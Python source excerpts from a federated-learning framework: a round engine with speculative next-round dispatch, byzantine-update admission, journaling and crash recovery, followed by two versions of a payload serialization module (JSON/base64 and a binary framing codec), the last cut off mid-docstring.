                    _count_close("async", "timer")
                    if publish is not None:
                        publish(round_no, weights, history)
                last_advance = time.monotonic()
            if not progressed:
                time.sleep(0.05)
    finally:
        stats["buffer_dropped"] = buffer.dropped
        # the target round count is reached (or we are unwinding on an
        # error): cancel still-outstanding straggler tasks so their
        # nodes stop training against a dead coordinator
        for st in outstanding.values():
            if journal is not None:
                journal.kill(round_no, st["task_id"], "teardown")
            try:
                client.task.kill(st["task_id"])
            except Exception as e:  # noqa: BLE001 — best-effort teardown; an unreachable straggler cleans itself up via the sweeper
                log.warning("async teardown: kill of task %s failed: %s",
                            st["task_id"], e)
    return {"weights": weights, "history": history,
            "rounds_advanced": round_no, "backend": backend,
            "stats": stats}


def _max_abs_diff(a: Any, b: Any) -> float:
    """max |a − b|∞ over two weight pytrees (inf on shape mismatch)."""
    from vantage6_trn.ops.aggregate import flatten_params

    fa, _ = flatten_params(a)
    fb, _ = flatten_params(b)
    if fa.shape != fb.shape:
        return float("inf")
    if fa.size == 0:
        return 0.0
    return float(np.max(np.abs(fa - fb)))


def run_pipelined_rounds(
    client,
    *,
    orgs: Sequence[int],
    rounds: int,
    policy: RoundPolicy,
    make_input: Callable[[Any], dict],
    init_weights: Any = None,
    name: str = "round",
    aggregation: str | None = None,
    tracker: Any = None,
    on_round: Callable[[int, Any, list], None] | None = None,
    robust: "AdmissionPolicy | dict | str | None" = None,
    journal: RoundJournal | None = None,
    _resume: dict | None = None,
) -> dict:
    """Sync/quorum round engine with speculative next-round dispatch.

    Drives the same cohort-task-per-round loop as the model drivers'
    inline sync loop, but folds results through
    ``FedAvgStream.add_payload`` (per-frame fused consumption) and —
    when ``policy.speculate`` — dispatches round r+1 against the
    *provisional* mean the moment the quorum math says the mean can no
    longer move (``policy.speculate_frac`` over the remaining weight
    mass), while round r's laggards are still draining. At round close
    the provisional mean is re-checked against the final one:

    commit
        ``|provisional − final|∞ ≤ policy.speculate_eps`` — the
        speculative task becomes round r+1 and the time it already ran
        is observed into ``v6_round_overlap_seconds{mode}``. The global
        model steps to the *provisional* mean (that is what the r+1
        cohort actually trains on; at ``speculate_eps=0`` it is
        bit-identical to the final mean).
    abort
        a late fold breached the bound — the speculative task is killed
        (``Task.kill``; attempt-fencing guarantees any result it
        already produced can never fold in) and round r+1 is
        re-dispatched against the corrected mean.

    Outcomes count into ``v6_round_speculation_total{result}``. With
    ``policy.speculate=False`` the same engine runs non-pipelined —
    the symmetric baseline the bench compares against.

    The ``on_round(r, weights, history)`` checkpoint hook runs *after*
    the next round's task exists when ``policy.speculate`` — its cost
    (e.g. ``save_state``) is part of the tail the dispatched cohort
    computes through. With ``speculate=False`` it runs in the classic
    driver order (checkpoint, then dispatch), keeping the baseline's
    critical path honest.

    ``robust`` (an :class:`AdmissionPolicy` spec) arms per-update
    admission on every fold: a rejected update never reaches the
    global accumulator (the staged fold discards it), the org is
    struck and eventually quarantined out of the dispatch cohort, and
    a round whose every update was rejected raises ``EmptyRoundError``
    instead of holding a silently-empty mean. Any rejection *after*
    the speculative r+1 dispatch is treated as a speculation breach —
    the provisional mean's quorum math counted mass that turned out to
    be byzantine, so the speculative task is killed and r+1
    re-dispatched against the post-rejection cohort, even when the
    means happen to agree numerically.

    ``journal`` (a :class:`~vantage6_trn.common.journal.RoundJournal`)
    arms crash durability: every dispatch/speculation/fold/close is
    write-ahead journaled and ``resume_rounds`` can re-attach a
    restarted driver. ``_resume`` is that recovery path's private
    re-entry state (adopted task, journaled fold digests, rebuilt
    admission history) — never pass it directly.

    Returns ``{"weights", "history", "rounds_advanced", "backend",
    "stats"}`` where ``stats`` carries speculation outcome counts and a
    per-round phase breakdown (``parallel_s`` / ``tail_s`` / ``wall_s``
    / ``overlap_s`` / ``folds``).
    """
    from vantage6_trn.common.serialization import encode_binary, tree_digest
    from vantage6_trn.ops.aggregate import FedAvgStream

    if policy.mode not in ("sync", "quorum"):
        raise ValueError(
            f"pipelined rounds drive sync/quorum policies, "
            f"not {policy.mode!r}"
        )
    if not orgs:
        raise ValueError("pipelined rounds need at least one "
                         "organization")
    orgs = list(orgs)
    adm = AdmissionPolicy.from_spec(robust)
    norms = NormTracker(adm.history_cap) if adm is not None else None
    quarantine = (Quarantine(adm.quarantine_after, adm.quarantine_rounds)
                  if adm is not None else None)
    REG = telemetry.REGISTRY
    weights = init_weights
    history: list[dict] = []
    #: per-org update weight learned from folded results — the mass
    #: estimate behind the speculate_frac bound (absent → unbounded)
    org_weight: dict[int, float] = {}
    backend = None
    stats: dict = {"speculated": 0, "committed": 0, "aborted": 0,
                   "rejected": 0, "phases": []}
    # recovery re-entry (resume_rounds): adopted task, journaled fold
    # digests of the interrupted round, rebuilt admission state
    start_round = 0
    resume_task = resume_live = None
    resume_folded: dict = {}
    resume_rejected: set = set()
    resume_laggards_killed = False
    if _resume is not None:
        start_round = int(_resume.get("start_round", 0))
        resume_task = _resume.get("task")
        resume_live = _resume.get("live")
        resume_folded = _resume.get("folded") or {}
        resume_rejected = _resume.get("rejected") or set()
        resume_laggards_killed = bool(_resume.get("laggards_killed"))
        if _resume.get("norms") is not None:
            norms = _resume["norms"]
        if _resume.get("quarantine") is not None:
            quarantine = _resume["quarantine"]
        org_weight.update(_resume.get("org_weight") or {})

    def _encode_weights(w):
        if w is None:
            return None, None
        return encode_binary({"weights": w}), tree_digest(w)

    def cohort_for(round_no: int) -> list:
        if quarantine is None:
            return orgs
        cohort = quarantine.cohort(orgs, round_no)
        if not cohort:
            raise empty_round(
                "pipelined",
                f"round {round_no}: entire cohort quarantined "
                f"({sorted(orgs)})",
            )
        return cohort

    def dispatch(w, round_no):
        cohort = cohort_for(round_no)
        _mark_phase(round_no, "dispatch")
        telemetry.flight("round_open", round=round_no,
                         cohort=len(cohort))
        input_ = make_input(w)
        base = tracker.base(tuple(cohort)) if tracker is not None else None
        kw: dict = {}
        if journal is not None:
            # write-ahead: open + intent (with the Idempotency-Key and
            # the delta base digest) are durable BEFORE the create goes
            # out, so a post-crash re-dispatch is a server-side replay
            blob, digest = _encode_weights(w)
            journal.open_round(round_no, policy.to_dict(), cohort,
                               blob, digest)
            idem = uuid.uuid4().hex
            journal.dispatch(
                round_no, idem, cohort,
                delta_digest=(tree_digest(base)
                              if base is not None else None),
            )
            kw["idem_key"] = idem
        task = client.task.create(
            input_=input_, organizations=cohort, name=name,
            delta_base=base, **kw,
        )
        if journal is not None:
            journal.dispatch_ack(round_no, task["id"])
        telemetry.flight("dispatch", round=round_no,
                         task_id=task["id"])
        if tracker is not None:
            tracker.sent(input_, tuple(cohort))
        chaos.checkpoint("post_dispatch", round=round_no,
                         task_id=task["id"])
        return task, cohort

    def may_speculate(stream, live, folded, failed) -> bool:
        if (policy.mode == "quorum" and policy.quorum is not None
                and len(folded) >= policy.quorum):
            return True  # iter_round closes on this very item
        rem = 0.0
        for org in live:
            if org in folded or org in failed:
                continue
            w = org_weight.get(org)
            if w is None:
                return False  # unknown straggler weight: no bound
            rem += w
        if rem == 0.0:
            return True
        return rem / (rem + stream.weight_mass()) <= policy.speculate_frac

    if resume_task is not None:
        task, live = resume_task, list(resume_live or orgs)
    elif start_round < rounds:
        task, live = dispatch(weights, start_round)
    else:
        task, live = None, list(orgs)
    for r in range(start_round, rounds):
        t_open = time.monotonic()
        _mark_phase(r, "fold")
        stream = FedAvgStream(method=aggregation, admission=adm,
                              norm_tracker=norms)
        folded: set = set()
        failed: set = set()
        total_n = 0.0
        loss_sum = 0.0
        spec = None  # (task, provisional_mean, t_dispatched)
        spec_cohort = None
        rejected_after_spec = False
        t_last = None
        for item in iter_round(client, task["id"], policy, raw=True,
                               journal=journal, round_no=r,
                               skip_kill=(r == start_round
                                          and _resume is not None
                                          and resume_laggards_killed)):
            org = item.get("organization_id")
            blob = item.get("result_blob")
            if not blob:
                failed.add(org)
                continue
            digest = (blob_digest(blob) if journal is not None
                      else None)
            # recovery replay: the journal already acked this update
            # in the interrupted round — re-fold it (the in-memory
            # accumulator died with the old driver) but do not journal
            # or strike it a second time
            replayed = (r == start_round and digest is not None
                        and digest in resume_folded)
            if (r == start_round and digest is not None
                    and digest in resume_rejected):
                # journaled as rejected before the crash: the strike
                # already counted; keep it out without re-probing
                failed.add(org)
                continue
            try:
                rest = stream.add_payload(blob)
            except UpdateRejected as e:
                failed.add(org)
                stats["rejected"] += 1
                if spec is not None:
                    rejected_after_spec = True
                struck = (quarantine is not None
                          and quarantine.strike(org, r))
                telemetry.flight("fold", round=r, org=org,
                                 run_id=item.get("run_id"),
                                 digest=digest, verdict="rejected")
                telemetry.flight("admission_reject", round=r, org=org,
                                 reason=str(e)[:200],
                                 quarantined=struck)
                if journal is not None:
                    journal.fold(r, org, item.get("run_id"), digest,
                                 "rejected",
                                 norm=getattr(stream, "last_norm", None))
                    journal.strike(r, org, quarantined=struck)
                if struck:
                    log.warning(
                        "round %d: org %s quarantined after rejected "
                        "update: %s", r, org, e)
                else:
                    log.warning(
                        "round %d: update from org %s rejected: %s",
                        r, org, e)
                continue
            if tracker is not None:
                tracker.ack(org, rest)
            n = float(rest["n"])
            folded.add(org)
            org_weight[org] = n
            total_n += n
            loss_sum += float(rest["loss"]) * n
            t_last = time.monotonic()
            if not replayed:
                telemetry.flight("fold", round=r, org=org,
                                 run_id=item.get("run_id"),
                                 digest=digest, verdict="admitted", n=n)
            if journal is not None and not replayed:
                journal.fold(r, org, item.get("run_id"), digest,
                             "admitted", n=n, weight=n,
                             norm=getattr(stream, "last_norm", None))
            if replayed:
                REG.counter(
                    "v6_round_recovery_total",
                    "journal recovery actions (adopt/replay/cancel)",
                ).inc(action="replayed")
            chaos.checkpoint("mid_fold", round=r, folds=len(folded))
            if (policy.speculate and spec is None and r + 1 < rounds
                    and len(stream)
                    and may_speculate(stream, live, folded, failed)):
                prov = stream.provisional()
                spec_cohort = cohort_for(r + 1)
                spec_input = make_input(prov)
                spec_kw: dict = {}
                if journal is not None:
                    # spec_open carries the provisional mean: recovery
                    # can replay the create under this key just to
                    # learn the orphan's task id before cancelling it
                    sblob, _ = _encode_weights(prov)
                    spec_idem = uuid.uuid4().hex
                    journal.dispatch(r, spec_idem, spec_cohort,
                                     spec=True, blob=sblob)
                    spec_kw["idem_key"] = spec_idem
                spec_task = client.task.create(  # noqa: V6L017 - speculative r+1 dispatch: the provisional mean is sealed before send, a late breach kills this task (attempt-fencing keeps its results out), and commit re-checks against the final mean under speculate_eps
                    input_=spec_input, organizations=spec_cohort,
                    name=name,
                    delta_base=(tracker.base(tuple(spec_cohort))
                                if tracker is not None else None),
                    **spec_kw,
                )
                if journal is not None:
                    journal.dispatch_ack(r, spec_task["id"], spec=True)
                telemetry.flight("spec_dispatch", round=r,
                                 task_id=spec_task["id"],
                                 cohort=len(spec_cohort))
                if tracker is not None:
                    tracker.sent(spec_input, tuple(spec_cohort))
                spec = (spec_task, prov, time.monotonic())
                stats["speculated"] += 1
                chaos.checkpoint("mid_speculation", round=r,
                                 task_id=spec_task["id"])
        task = None
        committed = False
        _mark_phase(r, "commit")
        chaos.checkpoint("post_quorum_pre_commit", round=r,
                         folds=len(folded))
        if len(stream) == 0:
            if getattr(stream, "rejected", 0):
                raise empty_round(
                    "pipelined",
                    f"round {r}: all {stream.rejected} updates were "
                    "rejected by admission — refusing to hold a "
                    "fully-byzantine round",
                )
            # nothing usable arrived: hold the model, go again
            history.append({"loss": None, "n": 0, "updates": 0,
                            "orgs": [], "speculated": False,
                            "committed": False})
        else:
            final = stream.finish()
            backend = stream.backend
            if spec is not None:
                spec_task, prov, t_spec = spec
                diff = _max_abs_diff(final, prov)
                if (diff <= policy.speculate_eps
                        and not rejected_after_spec):
                    committed = True
                    stats["committed"] += 1
                    REG.counter(
                        "v6_round_speculation_total",
                        "speculative next-round dispatches by outcome",
                    ).inc(result="committed")
                    # the r+1 cohort trains on the provisional mean —
                    # that mean IS the round result (bit-identical to
                    # `final` at speculate_eps=0)
                    weights = prov
                    task = spec_task
                    live = spec_cohort
                    if journal is not None:
                        journal.spec_commit(r, spec_task["id"])
                    telemetry.flight("spec_commit", round=r,
                                     task_id=spec_task["id"])
                else:
                    stats["aborted"] += 1
                    REG.counter(
                        "v6_round_speculation_total",
                        "speculative next-round dispatches by outcome",
                    ).inc(result="aborted")
                    log.warning(
                        "speculation breach in round %d (%s): killing "
                        "speculative task %s, re-dispatching corrected "
                        "mean",
                        r,
                        ("byzantine update rejected after speculative "
                         "dispatch" if rejected_after_spec else
                         f"|Δ|∞={diff:.3g} > "
                         f"eps={policy.speculate_eps:.3g}"),
                        spec_task["id"],
                    )
                    telemetry.flight(
                        "spec_abort", round=r, task_id=spec_task["id"],
                        reason=("rejected_after_spec"
                                if rejected_after_spec else "breach"),
                    )
                    if journal is not None:
                        # write-ahead the abort: a recovering driver
                        # sees the cancel intent and never re-adopts
                        # (nor double-kills) this task
                        journal.spec_cancel(
                            r, spec_task["id"],
                            "rejected_after_spec" if rejected_after_spec
                            else "breach")
                    try:
                        client.task.kill(spec_task["id"])
                    except Exception as e:  # noqa: BLE001 — the corrected re-dispatch proceeds either way; attempt-fencing keeps the zombie's results out
                        log.warning("speculative task %s kill failed: "
                                    "%s", spec_task["id"], e)
                    weights = final
            else:
                weights = final
            history.append({
                "loss": float(loss_sum / total_n) if total_n else None,
                "n": total_n, "updates": len(folded),
                "orgs": sorted(folded),
                "speculated": spec is not None,
                "committed": committed,
            })
        _mark_phase(r, "close")
        telemetry.flight("round_close", round=r, updates=len(folded),
                         committed=committed)
        chaos.checkpoint("pre_close", round=r, folds=len(folded))
        if journal is not None:
            # the close record seals round r BEFORE round r+1's
            # dispatch opens — a crash on either side of it resumes at
            # the right round
            cblob, cdig = _encode_weights(weights)
            journal.close(r, cblob, cdig, updates=len(folded),
                          loss=history[-1]["loss"], committed=committed)
            if committed:
                # the committed speculative task already IS round r+1:
                # journal its open + ack so recovery sees the same
                # uniform shape as a dispatch()-opened round
                journal.open_round(r + 1, policy.to_dict(), list(live),
                                   cblob, cdig)
                journal.dispatch_ack(r + 1, task["id"], via="spec")
        need_dispatch = task is None and r + 1 < rounds
        if policy.speculate:
            # pipelined tail order: dispatch r+1 first (unless the
            # committed speculative task already IS r+1), then run the
            # checkpoint — its cost sits in wall-clock the next round's
            # workers are already computing through
            if need_dispatch:
                task, live = dispatch(weights, r + 1)
            if on_round is not None:
                on_round(r, weights, history)
        else:
            # classic driver order (checkpoint, then dispatch): the
            # honest non-pipelined baseline the bench compares against
            if on_round is not None:
                on_round(r, weights, history)
            if need_dispatch:
                task, live = dispatch(weights, r + 1)
        t_done = time.monotonic()
        overlap = (t_done - spec[2]) if committed else 0.0
        if spec is not None:
            REG.histogram(
                "v6_round_overlap_seconds",
                "wall-clock a committed speculative dispatch "
                "overlapped the round tail",
                buckets=telemetry.ROUND_OVERLAP_BUCKETS,
            ).observe(overlap, mode=policy.mode)
        stats["phases"].append({
            "round": r,
            "parallel_s": (t_last - t_open) if t_last else 0.0,
            "tail_s": t_done - (t_last if t_last else t_open),
            "wall_s": t_done - t_open,
            "overlap_s": overlap,
            "folds": len(folded),
        })
    return {"weights": weights, "history": history,
            "rounds_advanced": rounds, "backend": backend,
            "stats": stats}


def resume_rounds(
    client,
    *,
    journal: RoundJournal,
    orgs: Sequence[int],
    rounds: int,
    policy: RoundPolicy,
    make_input: Callable[[Any], dict],
    init_weights: Any = None,
    name: str = "round",
    aggregation: str | None = None,
    tracker: Any = None,
    on_round: Callable[[int, Any, list], None] | None = None,
    robust: "AdmissionPolicy | dict | str | None" = None,
) -> dict:
    """Re-attach a restarted driver to its round journal.

    The recovery state machine (docs/RESILIENCE.md "Round durability"):

    adopt
        the interrupted round's task was acked to the journal — re-use
        its id and keep folding its results. A journaled dispatch
        *intent* without an ack replays ``task.create`` under the same
        Idempotency-Key: the server dedupes, so recovery either learns
        the id of the task the old driver managed to create or creates
        it exactly once.
    replay
        folds acked to the journal died with the old accumulator, so
        every open-round update re-folds from scratch; re-delivered
        results whose blob digest matches a journaled fold ack are
        folded WITHOUT re-journaling or re-striking (folds are
        idempotent by digest). Journaled *rejections* stay rejected
        without re-probing the admission gate.
    cancel
        an orphaned speculative task (opened, never committed) is
        killed exactly once: the cancel intent is journaled first, and
        an already-journaled cancel is never re-killed.

    Admission history (relative-MAD gate norms), quarantine strikes and
    per-org weight estimates rebuild from a bounded journal tail so the
    gate does not restart cold (permissive) after a crash. Reads are
    O(rows-in-open-round) + O(bounded tail) — never the whole
    federation history.

    Returns the same result dict as :func:`run_pipelined_rounds`; its
    ``history`` covers the rounds run by THIS process (round indices in
    ``stats["phases"]`` stay absolute). With an empty journal this is
    exactly ``run_pipelined_rounds`` from round 0.
    """
    from vantage6_trn.common.serialization import deserialize

    def _decode_weights(blob):
        return deserialize(bytes(blob))["weights"] if blob else None

    def _recovery(action: str) -> None:
        telemetry.REGISTRY.counter(
            "v6_round_recovery_total",
            "journal recovery actions (adopt/replay/cancel)",
        ).inc(action=action)
        telemetry.flight("recovery", action=action)

    common_kw = dict(
        orgs=orgs, rounds=rounds, policy=policy, make_input=make_input,
        name=name, aggregation=aggregation, tracker=tracker,
        on_round=on_round, robust=robust, journal=journal,
    )
    state = journal.recover()
    if state is None:
        return run_pipelined_rounds(client, init_weights=init_weights,
                                    **common_kw)
    op = state.open
    weights = _decode_weights(state.weights_blob)
    if weights is None:
        weights = init_weights

    # --- rebuild admission history / org weights from the journal tail
    adm = AdmissionPolicy.from_spec(robust)
    norms = quarantine = None
    org_weight: dict = {}
    fold_tail = journal.recent_folds(
        max(32, (adm.history_cap if adm is not None else 0),
            4 * len(orgs)))
    for f in fold_tail:
        if f.get("verdict") != "admitted":
            continue
        if f.get("n") is not None:
            org_weight[f["org"]] = float(f["n"])
    if adm is not None:
        norms = NormTracker(adm.history_cap)
        for f in fold_tail:
            if f.get("verdict") == "admitted" and f.get("norm") is not None:
                norms.record(float(f["norm"]))
        quarantine = Quarantine(adm.quarantine_after,
                                adm.quarantine_rounds)
        for round_no, s in journal.recent_strikes(8 * len(orgs)):
            quarantine.strike(s["org"], round_no)
    resume = {"start_round": state.next_round, "norms": norms,
              "quarantine": quarantine, "org_weight": org_weight}

    if op is not None:
        # --- cancel: orphaned speculative task (opened, not committed)
        sp = op.spec
        if sp is not None and not sp.committed:
            spec_tid = sp.task_id
            if spec_tid is None and sp.idem_key is not None:
                # crash between create and ack: replay the create under
                # the journaled key purely to LEARN the orphan's id —
                # the server either returns the task the old driver
                # created or creates the one it was about to
                prov = _decode_weights(sp.blob)
                t = client.task.create(  # noqa: V6L027 - replay of a journaled speculative dispatch intent; the Idempotency-Key dedupes server-side
                    input_=make_input(prov if prov is not None
                                      else weights),
                    organizations=op.cohort or list(orgs), name=name,
                    idem_key=sp.idem_key,
                )
                spec_tid = t["id"]
            if spec_tid is not None and not sp.cancelled:
                journal.spec_cancel(op.round_no, spec_tid, "recovery")
                try:
                    client.task.kill(spec_tid)
                except Exception as e:  # noqa: BLE001 — the cancel intent is journaled; a dead node's zombie results are fenced out anyway
                    log.warning("recovery: cancel of orphaned "
                                "speculative task %s failed: %s",
                                spec_tid, e)
                _recovery("cancelled")

        # --- adopt: the interrupted round's own task
        task = None
        if op.task_id is not None:
            task = {"id": op.task_id}
            _recovery("adopted")
        elif op.idem_key is not None:
            task = client.task.create(  # noqa: V6L027 - replay of a journaled dispatch intent; the Idempotency-Key dedupes server-side
                input_=make_input(weights),
                organizations=op.cohort or list(orgs), name=name,
                idem_key=op.idem_key,
            )
            journal.dispatch_ack(op.round_no, task["id"],
                                 via="recovery")
            _recovery("adopted")
        if task is not None:
            resume["task"] = task
            resume["live"] = op.cohort or list(orgs)
            resume["laggards_killed"] = op.laggards_killed
            resume["folded"] = {
                f["digest"]: f for f in op.folds
                if f.get("verdict") == "admitted"
                and f.get("digest") is not None
            }
            resume["rejected"] = {
                f["digest"] for f in op.folds
                if f.get("verdict") == "rejected"
                and f.get("digest") is not None
            }
        # else: crash landed between the open record and the dispatch
        # intent — no task can exist, so the engine re-dispatches fresh

    return run_pipelined_rounds(client, init_weights=weights,
                                _resume=resume, **common_kw)
