"""Task/result payload serialization.

The algorithm-facing contract (reference: v4 JSON-only wrapper input —
``vantage6-algorithm-tools/.../wrap.py``, SURVEY.md §2.1/§3.5, UNVERIFIED):

    input payload  = JSON {"method": str, "args": [...], "kwargs": {...}}
    result payload = JSON (whatever the algorithm returned)

Model weights travel *inside* those JSON payloads. The reference ecosystem
ships numpy weights as nested lists or base64 blobs; we standardise on a
tagged dict so arrays round-trip loss-lessly and cheaply:

    {"__ndarray__": "<b64 raw bytes>", "dtype": "float32", "shape": [..]}

``serialize``/``deserialize`` recursively (de)tag numpy arrays (and jax
arrays, which are converted via ``np.asarray``) so algorithm code can
return plain pytrees of arrays.
"""

from __future__ import annotations

import base64
import json
from typing import Any

import numpy as np

_NDKEY = "__ndarray__"


def _encode(obj: Any) -> Any:
    # jax.Array and np.ndarray both satisfy __array__; normalize to numpy.
    if hasattr(obj, "__array__") and not np.isscalar(obj):
        arr = np.ascontiguousarray(np.asarray(obj))
        return {
            _NDKEY: base64.b64encode(arr.tobytes()).decode("ascii"),
            "dtype": str(arr.dtype),
            "shape": list(arr.shape),
        }
    if isinstance(obj, dict):
        return {k: _encode(v) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_encode(v) for v in obj]
    if isinstance(obj, (np.integer,)):
        return int(obj)
    if isinstance(obj, (np.floating,)):
        return float(obj)
    if isinstance(obj, (np.bool_,)):
        return bool(obj)
    return obj


def _decode(obj: Any) -> Any:
    if isinstance(obj, dict):
        if _NDKEY in obj and "dtype" in obj and "shape" in obj:
            raw = base64.b64decode(obj[_NDKEY])
            return np.frombuffer(raw, dtype=np.dtype(obj["dtype"])).reshape(
                obj["shape"]
            ).copy()
        return {k: _decode(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_decode(v) for v in obj]
    return obj


def serialize(data: Any) -> bytes:
    """Pytree (incl. numpy/jax arrays) → canonical JSON bytes."""
    return json.dumps(_encode(data), separators=(",", ":")).encode("utf-8")


def deserialize(blob: bytes | str) -> Any:
    """JSON bytes → pytree with numpy arrays restored."""
    if isinstance(blob, (bytes, bytearray)):
        blob = blob.decode("utf-8")
    return _decode(json.loads(blob))


def make_task_input(method: str, args: list | None = None,
                    kwargs: dict | None = None) -> dict:
    """The wrapper-dispatch input dict (reference §3.5 contract)."""
    return {"method": method, "args": args or [], "kwargs": kwargs or {}}
