"""Task/result payload serialization.

The algorithm-facing contract (reference: v4 JSON-only wrapper input —
``vantage6-algorithm-tools/.../wrap.py``, SURVEY.md §2.1/§3.5, UNVERIFIED):

    input payload  = JSON {"method": str, "args": [...], "kwargs": {...}}
    result payload = JSON (whatever the algorithm returned)

Model weights travel *inside* those JSON payloads. The reference ecosystem
ships numpy weights as nested lists or base64 blobs; we standardise on a
tagged dict so arrays round-trip loss-lessly and cheaply:

    {"__ndarray__": "<b64 raw bytes>", "dtype": "float32", "shape": [..]}

``serialize``/``deserialize`` recursively (de)tag numpy arrays (and jax
arrays, which are converted via ``np.asarray``) so algorithm code can
return plain pytrees of arrays.

Binary codec (v2 data plane, docs/WIRE_FORMAT.md §1b)
-----------------------------------------------------
JSON-with-base64 inflates every array by ~33% and forces a full
encode/decode copy per hop. ``encode_binary``/``decode_binary`` provide
a zero-base64 alternative: a small JSON *header* describes the pytree
with array/bytes leaves replaced by frame placeholders, followed by the
raw little-copy frame bytes::

    b"V6BN" | version u8 | flags u8 | header_len u32be | header | frames

    header = {"tree": <pytree with {"__frame__": i} leaves>,
              "frames": [{"kind": "ndarray", "dtype": "<f4",
                          "shape": [..], "len": n} |
                         {"kind": "bytes", "len": n}, ...]}

flags bit0 = zlib over everything after the 6-byte magic/version/flags
prefix (header_len included). dtype is
``arr.dtype.str`` so endianness round-trips exactly. ``deserialize``
sniffs the magic, so every receiver handles both formats; transports
negotiate via ``Content-Type``/``Accept:`` |BIN_CONTENT_TYPE|.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib
from typing import Any

import numpy as np

_NDKEY = "__ndarray__"

BIN_MAGIC = b"V6BN"
BIN_VERSION = 1
BIN_CONTENT_TYPE = "application/x-v6-bin"
_FLAG_ZLIB = 0x01
_FRAMEKEY = "__frame__"


def _encode(obj: Any) -> Any:
    # jax.Array and np.ndarray both satisfy __array__; normalize to numpy.
    if hasattr(obj, "__array__") and not np.isscalar(obj):
        arr = np.ascontiguousarray(np.asarray(obj))
        return {
            _NDKEY: base64.b64encode(arr.tobytes()).decode("ascii"),
            "dtype": str(arr.dtype),
            "shape": list(arr.shape),
        }
    if isinstance(obj, dict):
        return {k: _encode(v) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_encode(v) for v in obj]
    if isinstance(obj, (np.integer,)):
        return int(obj)
    if isinstance(obj, (np.floating,)):
        return float(obj)
    if isinstance(obj, (np.bool_,)):
        return bool(obj)
    return obj


def _decode(obj: Any) -> Any:
    if isinstance(obj, dict):
        if _NDKEY in obj and "dtype" in obj and "shape" in obj:
            raw = base64.b64decode(obj[_NDKEY])
            return np.frombuffer(raw, dtype=np.dtype(obj["dtype"])).reshape(
                obj["shape"]
            ).copy()
        return {k: _decode(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_decode(v) for v in obj]
    return obj


def serialize(data: Any) -> bytes:
    """Pytree (incl. numpy/jax arrays) → canonical JSON bytes."""
    return json.dumps(_encode(data), separators=(",", ":")).encode("utf-8")


def serialize_as(fmt: str, data: Any) -> bytes:
    """Serialize ``data`` in the requested payload codec: ``"json"``
    (legacy, always interoperable) or ``"bin"`` (V6BN framing)."""
    if fmt == "bin":
        return encode_binary(data)
    if fmt == "json":
        return serialize(data)
    raise ValueError(f"unknown payload format: {fmt!r}")


def payload_format(blob: bytes | str) -> str:
    """``"bin"`` when ``blob`` carries the V6BN magic, else ``"json"``.
    Used by the node to echo the task submitter's codec in its result."""
    if isinstance(blob, str):
        return "json"
    return "bin" if bytes(blob[:4]) == BIN_MAGIC else "json"


def deserialize(blob: bytes | str) -> Any:
    """Payload bytes → pytree with numpy arrays restored. Sniffs the
    V6BN magic so one entry point reads both codecs."""
    if isinstance(blob, (bytes, bytearray)):
        if bytes(blob[:4]) == BIN_MAGIC:
            return decode_binary(blob)
        blob = blob.decode("utf-8")
    return _decode(json.loads(blob))


# --- binary codec ---------------------------------------------------------

def _encode_bin(obj: Any, frames: list[dict], chunks: list[bytes]) -> Any:
    if isinstance(obj, (bytes, bytearray, memoryview)):
        raw = bytes(obj)
        frames.append({"kind": "bytes", "len": len(raw)})
        chunks.append(raw)
        return {_FRAMEKEY: len(frames) - 1}
    if hasattr(obj, "__array__") and not np.isscalar(obj):
        arr = np.asarray(obj)
        shape = list(arr.shape)    # before ascontiguousarray: it lifts 0-d to (1,)
        raw = np.ascontiguousarray(arr).tobytes()
        frames.append({
            "kind": "ndarray",
            "dtype": arr.dtype.str,   # '<f4' / '>f4' — endianness-exact
            "shape": shape,
            "len": len(raw),
        })
        chunks.append(raw)
        return {_FRAMEKEY: len(frames) - 1}
    if isinstance(obj, dict):
        return {k: _encode_bin(v, frames, chunks) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_encode_bin(v, frames, chunks) for v in obj]
    if isinstance(obj, (np.integer,)):
        return int(obj)
    if isinstance(obj, (np.floating,)):
        return float(obj)
    if isinstance(obj, (np.bool_,)):
        return bool(obj)
    return obj


def encode_binary(data: Any, compress: bool = False) -> bytes:
    """Pytree → V6BN bytes (see module docstring for the framing)."""
    frames: list[dict] = []
    chunks: list[bytes] = []
    tree = _encode_bin(data, frames, chunks)
    header = json.dumps({"tree": tree, "frames": frames},
                        separators=(",", ":")).encode("utf-8")
    body = b"".join([struct.pack(">I", len(header)), header, *chunks])
    flags = 0
    if compress:
        body = zlib.compress(body)
        flags |= _FLAG_ZLIB
    return b"".join([BIN_MAGIC, bytes([BIN_VERSION, flags]), body])


def decode_binary(blob: bytes | bytearray | memoryview) -> Any:
    """V6BN bytes → pytree. Raises ``ValueError`` on malformed input."""
    blob = bytes(blob)
    if blob[:4] != BIN_MAGIC:
        raise ValueError("not a V6BN payload (bad magic)")
    if len(blob) < 10:
        raise ValueError("truncated V6BN payload")
    version, flags = blob[4], blob[5]
    if version != BIN_VERSION:
        raise ValueError(f"unsupported V6BN version {version}")
    body = blob[6:]
    if flags & _FLAG_ZLIB:
        body = zlib.decompress(body)
    (header_len,) = struct.unpack(">I", body[:4])
    try:
        header = json.loads(body[4:4 + header_len].decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as e:
        raise ValueError("malformed V6BN header") from e
    offset = 4 + header_len
    leaves = []
    for frame in header["frames"]:
        raw = body[offset:offset + frame["len"]]
        if len(raw) != frame["len"]:
            raise ValueError("truncated V6BN frame")
        offset += frame["len"]
        if frame["kind"] == "ndarray":
            leaves.append(
                np.frombuffer(raw, dtype=np.dtype(frame["dtype"]))
                .reshape(frame["shape"]).copy()
            )
        elif frame["kind"] == "bytes":
            leaves.append(raw)
        else:
            raise ValueError(f"unknown V6BN frame kind {frame['kind']!r}")

    def _restore(obj: Any) -> Any:
        if isinstance(obj, dict):
            if _FRAMEKEY in obj and len(obj) == 1:
                return leaves[obj[_FRAMEKEY]]
            return {k: _restore(v) for k, v in obj.items()}
        if isinstance(obj, list):
            return [_restore(v) for v in obj]
        return obj

    return _restore(header["tree"])


def peek_binary_index(buf: bytes | bytearray | memoryview):
    """Parse a V6BN *prefix* into ``(tree, frames)`` without touching the
    frame bytes. Enabler for fused open+aggregate streaming
    (``ops.aggregate.ModularSumStream.add_wire``): once the header has
    arrived, each frame's absolute byte range in the blob is known, so a
